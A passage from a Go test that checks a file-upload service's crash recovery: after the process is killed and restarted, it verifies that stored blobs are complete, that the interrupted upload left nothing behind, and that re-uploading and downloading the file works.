			b, err := os.ReadFile(filepath.Join(data, "files", p))
			if err != nil {
				t.Fatal(err)
			}
			if len(parts) != 3 || parts[0] != "sha256" || parts[1] != parts[2][:2] || parts[2] != sum256(b) {
				t.Errorf("after kill -9 and restart, %s is not a complete blob", p)
				continue
			}
			blobs++
		}
		if got := citationFiles(t, base, "north", "kill", northInstructor); len(got) != 0 {
			t.Fatalf("the killed upload is attached: %v", got)
		}
		if _, err := os.Stat(blobPath(data, sum256(content))); !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("the killed upload's content is stored: %v", err)
		}
		code, b := uploadRaw(t, target, northInstructor, "filename=killed.pdf", content)
		if code != 201 {
			t.Fatalf("uploading again after the restart: %d %s", code, b)
		}
		f := decodeFile(t, b)
		if resp, got := getFile(t, target+"/"+f.ID, northInstructor); resp.StatusCode != 200 || !bytes.Equal(got, content) {
			t.Fatalf("download after the restart: %d, identical %v", resp.StatusCode, bytes.Equal(got, content))
		}
		t.Logf("killed with %s in the temporary file; %d complete blobs after the restart", partial, blobs)
	})
}
